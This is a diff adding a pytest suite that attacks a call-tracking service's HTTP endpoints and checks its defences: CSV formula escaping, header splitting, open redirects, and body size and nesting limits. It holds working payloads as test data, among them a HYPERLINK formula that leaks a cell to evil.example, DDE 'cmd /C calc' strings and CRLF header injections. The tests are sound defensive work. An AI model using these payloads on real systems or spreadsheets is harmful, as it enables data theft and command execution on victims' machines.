@@ -1,0 +1,209 @@
+"""Attacks on the service's HTTP endpoints, each tried against a real uvicorn over a real engine and
+SQLite file: the ones that failed stay failed (each test here fails if its protection is removed),
+and the ones that worked are fixed (the test came first).
+
+Covered: formula injection in the CSV exports, header injection through the visitor cookie, oversized
+and deeply nested bodies on every POST, API keys and webhook tokens kept out of the logs, token
+guessing on heartbeats and intents, CSRF and open redirects around the dashboard's forms, cookie
+flags, script injection in the dashboard, /docs and the demo page, path traversal in the static
+route, spoofed X-Forwarded-For against the rate limits, CORS origins and the open endpoints."""
+from __future__ import annotations
+
+import csv
+import io
+import json
+import logging
+import re
+from contextlib import contextmanager
+from pathlib import Path
+from urllib.parse import quote
+
+import httpx
+import pytest
+
+from k50core import Engine
+from k50core.bindings.service import create_app
+from k50core.bindings.service.limits import Protection
+from k50core.cli import demo_config_path
+from service_support import T0, Clock, metric, serving
+
+KEY = "attack-test-key-0123456789"
+AUTH = {"X-API-Key": KEY}
+SITE = "https://shop.example.ru"
+UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
+CAMPAIGN = SITE + "/sale?utm_source=yandex&utm_medium=cpc&utm_campaign="
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+AMO_TOKEN = "amo-secret-token-42"
+STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+@pytest.fixture
+def made(tmp_path, build):
+    """An engine over the demo config (the build of the test's parameter) and a SQLite file."""
+    engines = []
+
+    def make():
+        e = Engine.from_config(demo_config_path(), store=str(tmp_path / f"k50-{len(engines)}.db"),
+                               implementation=build)
+        engines.append(e)
+        return e
+    yield make
+    for e in engines:
+        e.close()
+
+
+@contextmanager
+def service(engine, **options):
+    settings = dict(api_keys=[KEY], now=Clock(), rate_limits=None, protection=None, cors_origins=[SITE])
+    settings.update(options)
+    with serving(create_app(engine, **settings)) as base:
+        yield base
+
+
+# -- CSV / formula injection ------------------------------------------------------------------
+def _cells(text):
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_formulas_in_utm_tags_are_neutralised_in_both_csv_exports(made):
+    """A campaign named like a formula reaches the reports CSV and the calls CSV as text, with the
+    leading quote OWASP advises; nothing in either export starts a formula."""
+    engine = made()
+    for i, campaign in enumerate(FORMULAS):
+        got = engine.assign({"url": CAMPAIGN + quote(campaign, safe=""),
+                             "visitor_id": f"v{i}", "ip": "5.6.7.8", "user_agent": UA}, now=T0 + i)
+        assert got.number, campaign
+        engine.attribute({"call_id": f"c{i}", "number": got.number, "caller": f"+7999000{i:04d}",
+                          "started_at": T0 + 60 + i, "duration_seconds": 30}, now=T0 + 120 + i)
+    engine.write_reports()
+    with service(engine) as base:
+        report = httpx.get(f"{base}/v1/reports?by=query.utm_campaign&format=csv&since=0", headers=AUTH)
+        calls = httpx.get(f"{base}/v1/calls?format=csv&limit=100", headers=AUTH)
+    assert report.status_code == calls.status_code == 200
+    for text, column in ((report.text, "query.utm_campaign"), (calls.text, "utm_campaign")):
+        rows = _cells(text)
+        at = rows[0].index(column)
+        shown = {r[at] for r in rows[1:]}
+        assert {"'" + f for f in FORMULAS} <= shown, (column, shown)
+        assert not [c for r in rows for c in r if c[:1] in STARTS]
+
+
+# -- header injection / response splitting -----------------------------------------------------
+def test_a_visitor_id_cannot_split_or_add_headers(made):
+    """The visitor id is the one value echoed into a header (Set-Cookie): one with CR/LF is refused,
+    and one that would add cookie attributes is answered but never set as the cookie."""
+    engine = made()
+    with service(engine) as base:
+        for vid in ("a\r\nSet-Cookie: evil=1", "a\nX-Evil: 1", "ok\n"):
+            r = httpx.post(f"{base}/v1/visit", json={"url": SITE, "visitor_id": vid}, headers={"User-Agent": UA})
+            assert r.status_code == 422 and r.json()["problems"][0]["field"] == "visitor_id"
+            assert "evil" not in r.headers.get("set-cookie", "") and "x-evil" not in r.headers
+        sneaky = "v1; Domain=evil.example; Path=/admin"
+        r = httpx.post(f"{base}/v1/visit", json={"url": SITE, "visitor_id": sneaky}, headers={"User-Agent": UA})
+        assert r.status_code == 200 and r.json()["visitor_id"] == sneaky
+        assert "set-cookie" not in r.headers
+        plain = httpx.post(f"{base}/v1/visit", json={"url": SITE, "visitor_id": "v1"}, headers={"User-Agent": UA})
+        assert plain.headers["set-cookie"].startswith("k50_vid=v1;")
+        # a cookie that carries attributes of its own is not taken as the visitor id either
+        r = httpx.post(f"{base}/v1/visit", json={"url": SITE}, headers={"User-Agent": UA,
+                       "Cookie": 'k50_vid="x; Domain=evil.example"'})
+        assert "evil.example" not in r.headers.get("set-cookie", "") and "evil" not in r.json()["visitor_id"]
+
+
+def test_the_dashboard_redirects_only_to_itself(made):
+    """Sign-in and sign-out send the browser to /dashboard whatever the request carries, and the
+    trailing-slash redirect stays on this service (no //evil.example open redirect)."""
+    engine = made()
+    with service(engine) as base:
+        client = httpx.Client(base_url=base)
+        csrf = _csrf(client.get("/dashboard"))
+        got = client.post("/dashboard/login?next=https://evil.example/",
+                          data={"key": KEY, "csrf": csrf, "next": "https://evil.example/"})
+        assert got.status_code == 303 and got.headers["location"] == "/dashboard"
+        out = client.post("/dashboard/logout?next=//evil.example", data={"csrf": csrf, "next": "//evil.example"})
+        assert out.status_code == 303 and out.headers["location"] == "/dashboard"
+        for path in ("//evil.example/dashboard/", "/dashboard/", "/%2F%2Fevil.example/", "/\\evil.example/"):
+            r = httpx.get(base + path, follow_redirects=False)
+            location = r.headers.get("location")
+            if location is not None:
+                assert location.startswith(base + "/"), (path, location)
+                assert not location[len(base):].startswith("//"), (path, location)
+
+
+def _csrf(page):
+    return re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
+
+
+# -- oversized and deeply nested bodies -----------------------------------------------------------
+def _streamed(size):
+    def chunks():
+        sent = 0
+        while sent < size:
+            part = min(65536, size - sent)
+            sent += part
+            yield b"[" * part
+    return chunks()
+
+
+@pytest.fixture
+def wide_open(tmp_path, build):
+    """Every POST reachable: an API key, an amoCRM token and a Bitrix24 application token."""
+    engine = Engine.from_config(amo_config(), store=str(tmp_path / "k50.db"), implementation=build)
+    yield engine
+    engine.close()
+
+
+def amo_config():
+    import yaml
+
+    config = yaml.safe_load(Path(demo_config_path()).read_text())
+    config.setdefault("crm", {}).update({"amocrm_token": AMO_TOKEN, "bitrix24_application_token": "b24-app-token-0123456789"})
+    return config
+
+
+# (path, limit in bytes, extra headers): every POST route of the service
+POSTS = [("/v1/visit", 16 * 1024, {}), ("/v1/heartbeat", 16 * 1024, {}), ("/v1/intent", 16 * 1024, {}),
+         ("/v1/calls", 16 * 1024, AUTH), ("/v1/deals", 1024 * 1024, AUTH),
+         ("/v1/crm/amocrm?token=" + AMO_TOKEN, 256 * 1024, {}), ("/v1/crm/bitrix24", 256 * 1024, {}),
+         ("/dashboard/login", 4096, {}), ("/dashboard/logout", 4096, {})]
+
+
+@pytest.mark.parametrize("build", ["compiled"])  # the HTTP layer only: one build is enough
+def test_every_post_refuses_an_oversized_body_declared_or_streamed(wide_open):
+    """One byte over each route's limit is a 413, whether Content-Length says so or a chunked body
+    runs over; the service then answers as before."""
+    with service(wide_open) as base:
+        for path, limit, headers in POSTS:
+            declared = httpx.post(base + path, content=b"[" * (limit + 1),
+                                  headers={"Content-Type": "application/json", **headers})
+            assert declared.status_code == 413, (path, declared.status_code, declared.text)
+            assert "error" in declared.json()
+            streamed = httpx.post(base + path, content=_streamed(limit + 1),
+                                  headers={"Content-Type": "application/json", **headers})
+            assert streamed.status_code == 413, (path, streamed.status_code, streamed.text)
+        assert httpx.get(f"{base}/healthz").json()["status"] == "ok"
+
+
+@pytest.mark.parametrize("build", ["compiled"])
+def test_deeply_nested_json_is_a_clear_4xx_on_every_json_post(wide_open):
+    """JSON nested as deep as each route's limit allows ([[[[...]]]], {"a":{"a":...}}) is a 400 or
+    422 naming the body (204 on /v1/intent, which never answers an error), never a 500."""
+    json_posts = [(p, n, h) for p, n, h in POSTS if not p.startswith(("/v1/crm", "/dashboard"))]
+    with service(wide_open) as base:
+        for path, limit, headers in json_posts:
+            depth = (limit - 8) // 2
+            for body in (b"[" * depth + b"]" * depth, b'{"a":' * (depth // 3) + b"1" + b"}" * (depth // 3)):
+                body = body[:limit]
+                r = httpx.post(base + path, content=body, headers={"Content-Type": "application/json", **headers})
+                assert r.status_code in ((204,) if path == "/v1/intent" else (400, 413, 422)), \
+                    (path, r.status_code, r.text)
+        # numbers past a float's range are not taken as infinity
+        huge = httpx.post(f"{base}/v1/deals", headers=AUTH, json=None, content=json.dumps(
+            [{"deal_id": "d1", "phone": "+79990000001", "created_at": T0, "status": "won"}])[:-2].encode()
+            + b', "amount": 1e400}]')
+        assert huge.status_code == 422 and "amount" in huge.text
+        call = httpx.post(f"{base}/v1/calls", headers={**AUTH, "Content-Type": "application/json"},
+                          content=b'{"call_id": "x", "number": "+74950000001", "started_at": 1e400}')
+        assert call.status_code == 422 and "started_at" in call.text
+        assert httpx.get(f"{base}/v1/reports?format=json", headers=AUTH).status_code == 200
